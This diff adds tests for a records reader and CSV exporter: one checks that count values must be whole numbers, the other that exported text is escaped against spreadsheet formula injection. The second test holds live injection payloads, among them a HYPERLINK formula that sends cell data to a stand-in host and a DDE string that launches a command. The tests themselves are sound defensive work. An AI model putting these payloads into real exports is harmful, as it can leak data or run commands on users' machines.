@@ -272,3 +272,29 @@ def test_references_may_name_existing_records():
     assert result.records["record_id"].tolist() == ["A"]
     assert [(p.row, p.column, p.value) for p in result.problems] == [(3, "included_in", "MISSING")]
     assert validate_frame(raw, "f.csv").records.empty
+
+
+def test_a_count_must_be_written_as_a_whole_number(tmp_path):
+    path = _write(
+        tmp_path,
+        *[_row(record_id=f"R{i}", participants_low=v) for i, v in enumerate(["1e3", "NaN", "inf", "-5", "12.5"])],
+        _row(record_id="OK1", participants_low="1 200"),
+        _row(record_id="OK2", participants_low="300"),
+    )
+    result = read_records(path)
+    bad = [(p.value, p.column) for p in result.problems]
+    assert bad == [(v, "participants_low") for v in ["1e3", "NaN", "inf", "-5", "12.5"]]
+    kept = result.records.set_index("record_id")["participants_low"].to_dict()
+    assert kept == {"OK1": 1200, "OK2": 300}
+
+
+def test_an_exported_file_reads_back_as_it_was_written(tmp_path):
+    from geo.export import write_records
+
+    records = load_records(_write(tmp_path, _row(record_id="F1", summary="x")))
+    hostile = ['=HYPERLINK("http://x/leak?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+    for text in hostile:
+        out = tmp_path / "export.csv"
+        write_records(records.assign(summary=text), out)
+        assert "'" + text[0] in out.read_text(encoding="utf-8")  # guarded in the file
+        assert load_records(out).loc[0, "summary"] == text  # and read back as it was
